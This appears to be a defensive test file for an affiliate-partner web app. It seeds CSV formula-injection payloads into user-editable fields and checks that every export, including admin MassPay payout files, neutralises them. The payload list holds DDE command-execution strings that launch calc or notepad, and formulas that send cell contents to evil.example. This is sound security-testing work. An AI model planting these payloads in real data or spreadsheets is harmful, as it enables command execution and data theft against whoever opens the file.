/**
 * CSV formula injection across every export and every field a stranger controls: SubIDs (sales and clicks),
 * referred contacts' names and emails, promo tool and product names, payout method and reference, a
 * commission's currency, and for the administrator's MassPay files the partners' names, referral codes and
 * PayPal emails. Each export is downloaded through the gateway (PostgreSQL: COPY formats cells in SQL; SQLite:
 * csv-stringify), parsed back with csv-parse, and every cell checked: none may start with = + - @ tab or CR
 * (or their full-width forms) unless it sits in a numeric column and is a genuine number. Nothing is lost either:
 * every payload comes back, as `'` + payload.
 */
import { parse } from 'csv-parse/sync';
import { expect } from 'chai';
import { REPORT_NAMES } from '../../src/reports/export.service.js';
import { MAX_EXPORTS_PER_PARTNER } from '../../src/reports/export-slots.js';
import type { Store } from '../../src/store/index.js';
import { useTestGateway } from '../support/gateway.js';
import { forEachStore } from '../support/store.js';
import { expectAllHeld, mapLimit, type CaseResult } from './support.js';

const CLASS = 'CSV formula injection';
const DAY = 86_400_000;

/** What a stranger may type, each unique so that it is traced to its field. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|" /C notepad"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '-12.50',
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '\t=1+2',
  '\r=1+3',
  '\uFF1D1+4',
  '\uFF0B1+5',
  '\uFF0D1+6',
  '\uFF20SUM(A7)',
  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
  '=1+8\n=1+9',
  ' =HYPERLINK("http://evil.example/?space","Click")',
  '\n=1+10',
  ' \r\n@SUM(A11)',
];
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];
/** Spreadsheets skip leading blanks before looking for a trigger. */
const TRIGGER_AFTER_BLANKS = /^[ \t\r\n]+[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;
/** Columns whose cells Partnergate writes as numbers (ids, counts, amounts): a leading `-` is fine there. */
const NUMERIC = new Set(['commission_id', 'contact_id', 'payout_id', 'promo_tool_id', 'subscription_id', 'amount', 'commission', 'payout_amount', 'commission_amount', 'earned', 'pending', 'clicks', 'leads', 'sales', 'commission_count', 'partner_id', 'bucket']);
const GENUINE_NUMBER = /^-?\d+(\.\d+)?$/;

interface Seeded {
  partnerId: number;
  adminPartnerId: number;
}

/** One partner whose every stranger-typed field carries a payload; MassPay candidates with formula names and emails. */
async function seedPayloads(store: Store): Promise<Seeded> {
  const now = Date.now();
  return store.db.transaction().execute(async (db) => {
    const programId = (await db.insertInto('programs').values({ ontraport_id: null, name: 'Formula Program', currency: 'USD', tier_group: null, level_order: 1, rate_bp: 1000, rules_json: '{}', created_at: now, updated_at: now }).returning('id').executeTakeFirstOrThrow()).id;
    const contact = (first: string, last: string, email: string | null, referrer: number | null, at: number) =>
      db.insertInto('contacts').values({ ontraport_id: null, first_name: first, last_name: last, email, first_referrer_id: referrer, last_referrer_id: referrer, added_at: at, updated_at: at }).returning('id').executeTakeFirstOrThrow();
    const partner = async (first: string, last: string, code: string, paypal: string | null) => {
      const c = (await contact(first, last, `${code.replace(/[^a-z0-9]/gi, '') || 'p'}-${Math.random().toString(36).slice(2, 8)}@example.test`, null, now - 400 * DAY)).id;
      return (await db.insertInto('partners').values({ contact_id: c, referral_code: code, program_id: programId, paypal_email: paypal, status: 'active', time_zone: 'UTC', alias: null, created_at: now, updated_at: now }).returning('id').executeTakeFirstOrThrow()).id;
    };
    const partnerId = await partner('Fiona', 'Formula', '7001', 'fiona.pay@example.test');
    await db.insertInto('accounts').values({ partner_id: partnerId, email: 'fiona@example.test', role: 'partner', password_hash: null, totp_secret: null, totp_enabled: 0, totp_recovery_json: null, oidc_subject: null, created_at: now, password_changed_at: null, disabled_at: null }).execute();
    const adminPartnerId = await partner('Ada', 'Admin', '7002', null);
    await db.insertInto('accounts').values({ partner_id: adminPartnerId, email: 'admin@example.test', role: 'admin', password_hash: null, totp_secret: null, totp_enabled: 0, totp_recovery_json: null, oidc_subject: null, created_at: now, password_changed_at: null, disabled_at: null }).execute();

    for (const [i, p] of PAYLOADS.entries()) {
      const at = now - (i + 2) * DAY;
      const product = (await db.insertInto('products').values({ ontraport_id: null, name: p, price_cents: 1000, currency: 'USD', updated_at: now }).returning('id').executeTakeFirstOrThrow()).id;
      const tool = (await db.insertInto('promo_tools').values({ ontraport_id: null, program_id: programId, kind: 'link', name: p, subject: null, body: null, image_url: null, width: null, height: null, landing_path: '/', updated_at: now }).returning('id').executeTakeFirstOrThrow()).id;
      const buyer = (await contact(p, p, i % 2 ? `${p}@evil.example` : p, partnerId, at)).id;
      const payout = (await db.insertInto('payouts').values({ partner_id: partnerId, amount_cents: 500 + i, currency: 'USD', method: p, reference: p, paid_at: at + DAY }).returning('id').executeTakeFirstOrThrow()).id;
      const base = { ontraport_id: null, partner_id: partnerId, contact_id: buyer, product_id: product, purchase_id: null, promo_tool_id: tool, sub_id: p, currency: 'USD', transaction_at: at, updated_at: now };
      await db.insertInto('commissions').values({ ...base, kind: 'sale', status: 'paid', amount_cents: 1000 + i, processed_at: at, paid_at: at + DAY, payout_id: payout }).execute();
      await db.insertInto('commissions').values({ ...base, kind: 'sale', status: 'refunded', amount_cents: 300 + i, processed_at: at + 1000, paid_at: null, payout_id: null }).execute();
      await db.insertInto('commissions').values({ ...base, kind: 'clawback', status: 'paid', amount_cents: -(200 + i), processed_at: at + 2000, paid_at: at + DAY, payout_id: payout }).execute();
      await db.insertInto('visits').values({ partner_id: partnerId, promo_tool_id: tool, sub_id: p, landing_path: '/', visited_at: at }).execute();
      await db.insertInto('open_orders').values({ ontraport_id: null, partner_id: partnerId, contact_id: buyer, product_id: product, status: 'active', amount_cents: 4900 + i, commission_cents: 980 + i, currency: 'USD', next_charge_at: at + 30 * DAY, started_at: at, updated_at: now }).execute();
      // MassPay: partners with formula names, codes and PayPal emails, owed approved commissions.
      const owed = await partner(p, p, `${p}-${i}`, i % 3 === 0 ? `${p}@pay.example` : i % 3 === 1 ? p : `ok${i}@pay.example`);
      await db.insertInto('commissions').values({ ...base, partner_id: owed, sub_id: null, kind: 'sale', status: 'approved', amount_cents: 10_000 + i, processed_at: at, paid_at: null, payout_id: null }).execute();
    }
    // A commission in a currency that is itself a payload (Ontraport sends what it stores).
    await db.insertInto('commissions').values({ ontraport_id: null, partner_id: partnerId, contact_id: null, product_id: null, purchase_id: null, promo_tool_id: null, sub_id: 'currency-case', currency: '=CUR', transaction_at: now - DAY, updated_at: now, kind: 'sale', status: 'pending', amount_cents: 42, processed_at: null, paid_at: null, payout_id: null }).execute();
    return { partnerId, adminPartnerId };
  });
}

forEachStore('adversarial: CSV formula injection in every export', (ctx) => {
  let seeded: Seeded;
  let partner: string;
  let admin: string;
  const from = new Date(Date.now() - 60 * DAY).toISOString().slice(0, 10);
  const to = new Date(Date.now() + DAY).toISOString().slice(0, 10);

  before(async () => {
    seeded = await seedPayloads(ctx.store);
  });
  const tg = useTestGateway(() => ctx.store);
  before(async () => {
    partner = (await tg.signIn(seeded.partnerId)).cookie;
    admin = (await tg.signIn(seeded.adminPartnerId)).cookie;
  });

  /** Every export the gateway offers, with its variants. */
  function exportsToCheck(): Array<{ name: string; path: string; cookie: string; header: boolean }> {
    const q = `from=${from}&to=${to}`;
    const list: Array<{ name: string; path: string; cookie: string; header: boolean }> = [];
    for (const report of REPORT_NAMES) list.push({ name: report, path: `/partner-center/exports/${report}.csv?${q}`, cookie: partner, header: true });
    list.push(
      { name: 'report by promo', path: `/partner-center/exports/report.csv?${q}&by=promo`, cookie: partner, header: true },
      { name: 'report by SubID', path: `/partner-center/exports/report.csv?${q}&by=subid`, cookie: partner, header: true },
      { name: 'payments summary', path: `/partner-center/exports/payments.csv?${q}&summary=1`, cookie: partner, header: true },
      { name: 'commissions with BOM', path: `/partner-center/exports/commissions.csv?${q}&bom=1`, cookie: partner, header: true },
      { name: 'contacts with BOM', path: `/partner-center/exports/contacts.csv?${q}&bom=1`, cookie: partner, header: true },
      { name: 'MassPay file', path: '/partner-center/admin/exports/masspay.csv?currency=USD&threshold=1', cookie: admin, header: false },
      { name: 'MassPay skipped', path: '/partner-center/admin/exports/masspay-skipped.csv?currency=USD&threshold=1', cookie: admin, header: true },
    );
    return list;
  }

  it('no cell of any export starts a formula, and every payload comes back as text', async function () {
    this.timeout(60_000);
    const results: CaseResult[] = [];
    const seenPayloads = new Set<string>();
    const downloads = await mapLimit(exportsToCheck(), MAX_EXPORTS_PER_PARTNER, async (e) => {
      const res = await fetch(`${tg.url}${e.path}`, { headers: { cookie: e.cookie } });
      return { e, status: res.status, type: res.headers.get('content-type') ?? '', body: await res.text() };
    });
    for (const { e, status, type, body } of downloads) {
      expect(status, `${e.name}: ${body.slice(0, 200)}`).to.equal(200);
      expect(type).to.match(/^text\/csv/);
      const rows = parse(body, { bom: true, relax_column_count: false }) as string[][];
      expect(rows.length, e.name).to.be.greaterThan(e.header ? 1 : 0);
      const header = e.header ? rows[0]! : ['email', 'amount', 'currency'];
      const numeric = header.map((h) => NUMERIC.has(h));
      const bad: string[] = [];
      for (const row of rows.slice(e.header ? 1 : 0)) {
        row.forEach((cell, i) => {
          if (cell.startsWith("'")) {
            const original = cell.slice(1);
            if (PAYLOADS.includes(original)) seenPayloads.add(original);
            return;
          }
          for (const p of PAYLOADS) if (cell.includes(p)) seenPayloads.add(p);
          if ((TRIGGERS.some((t) => cell.startsWith(t)) || TRIGGER_AFTER_BLANKS.test(cell)) && !(numeric[i] && GENUINE_NUMBER.test(cell))) bad.push(`${header[i]}=${JSON.stringify(cell).slice(0, 50)}`);
        });
      }
      results.push({ name: `${e.name}: no formula cell (${rows.length} rows)`, held: bad.length === 0, why: bad.slice(0, 5).join('; ') });
      // A numeric column really holds numbers: the guard is not dodged by calling a text column "amount".
      const notNumbers = rows.slice(e.header ? 1 : 0).flatMap((row) => row.filter((cell, i) => numeric[i] && cell !== '' && !GENUINE_NUMBER.test(cell)));
      results.push({ name: `${e.name}: numeric columns hold only numbers`, held: notNumbers.length === 0, why: notNumbers.slice(0, 3).join('; ') });
    }
    // MassPay never pays to an address that is a formula: such partners are in the skipped file, not the payout file.
    const masspay = downloads.find((d) => d.e.name === 'MassPay file')!.body;
    results.push({ name: 'MassPay: no formula PayPal email is paid', held: !PAYLOADS.some((p) => masspay.includes(p.trim().slice(0, 8))), why: masspay.slice(0, 200) });
    expectAllHeld(CLASS, results);
    expect([...PAYLOADS].filter((p) => !seenPayloads.has(p)), 'payloads that never came back (lost, or the seed missed an export)').to.deep.equal([]);
  });
});
